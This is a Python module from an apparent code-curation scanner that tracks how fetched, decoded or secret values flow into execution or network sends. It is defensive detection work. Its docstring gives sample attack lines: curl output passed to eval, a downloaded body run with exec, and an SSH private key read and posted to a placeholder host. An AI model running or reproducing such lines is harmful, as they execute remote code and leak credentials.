"""What flows where in a program or a script: names that hold something fetched, decoded or secret, and where they end.

    S=$(curl -s https://x.example)          body = requests.get(u).text          k = open(".ssh/id_rsa").read()
    eval "$S"                               exec(compile(body, "", "exec"))      requests.post(u, data=k)

Line by line, for any language with assignments: a name holds what the line that assigns it holds, a function what its
body holds. That is coarse (no branches, no scopes), cheap, and enough to link two halves that stand far apart.
"""

import enum
import re
from bisect import bisect_left
from collections.abc import Iterator
from typing import NamedTuple

from repo_server.curation.checks import late
from repo_server.curation.checks.code_names import DECODES, FETCHES, RUNS
from repo_server.curation.checks.document import Document, Language

MAX_LINES = 20_000
_MAX_LOGICAL = 2_000  # characters of one statement over several lines
_MAX_NAMES = 2_000
_CALL = 20  # characters of the call itself, before its argument


class Holds(enum.IntFlag):
    """What a name can hold."""

    NOTHING = 0
    FETCHED = 1
    DECODED = 2
    SECRET = 4


class Flow(NamedTuple):
    """Something that ends in a sink: where the sink is, what flowed there, and where that came from."""

    at: int
    holds: Holds
    source: int


_ASSIGNED = late.pattern(
    r"^[\s>]{0,40}(?:(?:final\s+|public\s+|static\s+)?[A-Z][\w<>\[\].]{1,40}\s+|export\s+|local\s+|readonly\s+|declare\s+|const\s+|let\s+|var\s+|my\s+|set\s+|\$env:|\$)?(?P<name>[A-Za-z_][\w.]{0,60})"
    r"(?:\s{0,3}:\s{0,3}[\w\[\]|, .\"']{1,60})?\s{0,3}(?:\+|\|)?=(?![=>~])"
)
# Several names at once, an assignment within a statement, and what a callback is given.
_UNPACKED = late.pattern(
    r"^\s{0,40}(?:(?:const|let|var|local|my|val)\s*)?[({\[]{0,2}(?P<names>[^=\n(]{1,160}?)[)}\]]{0,2}\s{0,3}(?::=|<-|(?<![=!<>:])=)(?![=>~])|^\s{0,40}set\s+(?P<set>\w{1,60})\s+(?:to\s+|\[)"
)
_INNER = late.pattern(r"(?<![\w.=!<>])(?P<name>[A-Za-z_]\w{0,60})\s{0,3}[+.|]?=(?![=>~])")
_CALLBACK = late.pattern(
    r"(?P<arrow>[A-Za-z_]\w{0,40}|\([\w\s,{}:]{1,80}\))\s{0,3}=>|\bfunction\s{0,3}\w{0,40}\s{0,3}\((?P<given>[\w\s,]{1,80})\)|\|(?P<block>[\w\s,]{1,40})\|"
)
_BOUND = late.pattern(r"\b(?:as|for|read(?:\s+-r)?)\s+(?P<name>[A-Za-z_]\w{0,60})")
_DEFINED = late.pattern(
    r"^(?P<indent>\s{0,40})(?:async\s+)?(?:def|function|func|sub|fn)\s+(?P<name>[A-Za-z_]\w{0,60})|^(?P<shell>[A-Za-z_]\w{0,60})\s?\(\)\s{0,3}\{"
)
_KEYWORDS = frozenset(
    [
        "const",
        "let",
        "var",
        "local",
        "my",
        "val",
        "set",
        "await",
        "async",
        "new",
        "return",
        "if",
        "String",
        "string",
        "ok",
        "err",
        "error",
        "final",
        "var",
        "Set",
        "Dim",
        "self",
        "this",
    ]
)
_NAME = late.pattern(r"[A-Za-z_]\w{0,60}")
_WRITTEN = late.pattern(
    r"open\(\s{0,3}[fr]?[\"']?(?P<file>[^\"',)\n]{1,120})[\"']?\s{0,3},\s{0,3}[\"'][wa]b?[\"']|(?P<path>[A-Za-z_]\w{0,60})\.write_(?:text|bytes)\(|urlretrieve\([^,\n]{1,200},\s{0,3}[\"']?(?P<saved>[^\"',)\n]{1,120})|writeFile(?:Sync)?\(\s{0,3}[\"'`]?(?P<js>[^\"'`,)\n]{1,120})"
)

# The groups of what is a call in prose too; the words of other languages are also words of English.
_EVERYWHERE = frozenset(
    [
        "call",
        "pickle",
        "new",
        "vm",
        "bracket",
        "shell",
        "dash",
        "here",
        "heredoc",
        "piped",
        "ps",
        "pspipe",
        "block",
        "type",
        "assembly",
        "start",
        "amp",
        "system",
        "argv",
        "startfile",
        "runpy",
        "execv",
        "function",
        "ctypes",
        "data",
        "wasm",
    ]
)
_COARSE = 20_000  # characters of a text up to which names are known by callbacks and inner assignments too
_DEFINES = late.pattern(r"\b(?:def|function|func|fn|sub|async|class)\s{1,3}\Z")
_PLAIN_DATA = late.pattern(r"re\.compile|\.compile\s?\(|ast\.literal_eval|json\.loads?", re.IGNORECASE)


def runs_in(document: Document) -> list[Flow]:
    """Return where ``document`` executes something that it fetched or decoded, linked by a name."""
    sinks = {
        match.start(): next(group for group in match.groups() if group)
        for match in document.places(RUNS)
        if not _is_plain(document, match)
    }
    if not sinks:
        return []
    fetches = [match.start() for match in document.places(FETCHES)]
    decodes = [match.start() for match in document.places(DECODES)]
    if not fetches and not decodes:
        return []
    return _flows(document, {Holds.FETCHED: fetches, Holds.DECODED: decodes}, sinks)


def _is_plain(document: Document, match: re.Match[str]) -> bool:
    """Whether it only looks like a call that runs something."""
    if match.lastgroup == "new" and not match.group().startswith("Function"):
        return True  # `function (…)` is another word
    if match.lastgroup not in _EVERYWHERE and document.language is not Language.SCRIPT:
        return True
    begin = document.joined.rfind("\n", 0, match.start()) + 1
    if document.joined[begin : match.start()].lstrip().startswith(("//", "/*", "* ", "# ", "--")):
        return True
    if _DEFINES.search(document.joined, max(begin, match.start() - 20), match.start()):
        return True
    return bool(_PLAIN_DATA.search(document.joined[max(0, match.start() - 8) : match.end()]))


def sends_of_secrets(document: Document, secret_lines: set[int], send_lines: dict[int, int]) -> list[Flow]:
    """Return where something read from one of ``secret_lines`` is sent, linked by a name.

    ``send_lines`` has for each offset at which something is sent the offset where that command ends.
    """
    if not secret_lines or not send_lines:
        return []

    sinks = {at: document.joined[at:end] for at, end in send_lines.items()}
    return _flows(document, {Holds.SECRET: sorted(secret_lines)}, sinks)


def _flows(document: Document, sources: dict[Holds, list[int]], sinks: dict[int, str]) -> list[Flow]:
    names: dict[str, tuple[Holds, int]] = {}
    flows: list[Flow] = []
    function: tuple[str, int] | None = None
    ends = sorted(sinks)
    coarse = document.language is Language.SCRIPT and len(document.text) <= _COARSE
    for begin, statement in _statements(document.joined):
        end = begin + len(statement)
        if defined := _DEFINED.match(statement):
            function = (defined["name"] or defined["shell"], len(defined["indent"] or ""))
        elif function and statement.strip() and not statement[0].isspace() and not statement.startswith("}"):
            function = None
        held, source = _held(statement, begin, names, sources)
        for at in ends[bisect_left(ends, begin) : bisect_left(ends, end)]:
            flows += _sunk(at, sinks[at], names, sources)
        document.crowded |= len(names) >= _MAX_NAMES
        if held and len(names) < _MAX_NAMES:
            for name in _assigned(statement, function, coarse=coarse):
                if name not in names or held & ~names[name][0]:
                    names[name] = (held, source)
    return flows


def _held(
    statement: str, begin: int, names: dict[str, tuple[Holds, int]], sources: dict[Holds, list[int]]
) -> tuple[Holds, int]:
    """Return what ``statement`` deals with, and where that came from."""
    held, source = Holds.NOTHING, begin
    for kind, places in sources.items():
        if _between(places, begin, begin + len(statement)):
            held |= kind
    for name in _NAME.findall(statement) if names else ():
        other, origin = names.get(name, (Holds.NOTHING, 0))
        if other & ~held:
            held, source = held | other, origin
    return held, source


def _sunk(
    at: int, argument: str, names: dict[str, tuple[Holds, int]], sources: dict[Holds, list[int]]
) -> Iterator[Flow]:
    """Yield what flows into the sink at ``at``: by a name in its argument, or directly."""
    for name in _NAME.findall(argument):
        if name in names:
            yield Flow(at, *names[name])
            return
    for kind, places in sources.items():
        if kind is not Holds.SECRET and _between(places, at, at + len(argument) + _CALL):
            yield Flow(at, kind, at)
            return


def _between(places: list[int], begin: int, end: int) -> bool:
    index = bisect_left(places, begin)
    return index < len(places) and places[index] < end


def _assigned(statement: str, function: tuple[str, int] | None, *, coarse: bool) -> Iterator[str]:
    if match := _ASSIGNED.match(statement):
        yield match["name"].rpartition(".")[2]
    if coarse:
        if match := _UNPACKED.match(statement):
            yield from (
                name for name in _NAME.findall(match["names"] or match["set"]) if name not in _KEYWORDS
            )
        for match in _INNER.finditer(statement):
            yield match["name"]
        for match in _CALLBACK.finditer(statement):
            yield from _NAME.findall(match["arrow"] or match["given"] or match["block"])
    for match in _BOUND.finditer(statement):
        yield match["name"]
    for match in _WRITTEN.finditer(statement):
        written = next(group for group in match.groups() if group)
        yield from _NAME.findall(written)[-2:]
    if function:
        yield function[0]


def _statements(text: str) -> Iterator[tuple[int, str]]:
    """Yield begin and text of each statement: a line, or several while a bracket is open."""
    begin, opened, at = 0, 0, 0
    for number, line in enumerate(text.split("\n")):
        if number > MAX_LINES:
            return
        opened += line.count("(") + line.count("[") - line.count(")") - line.count("]")
        at += len(line) + 1
        # The body of a block is statements of its own, also where the block is an argument.
        if opened <= 0 or at - begin > _MAX_LOGICAL or line.rstrip().endswith(("{", "do", "=>")):
            yield begin, text[begin : at - 1]
            begin, opened = at, 0
    if begin < len(text):
        yield begin, text[begin:]
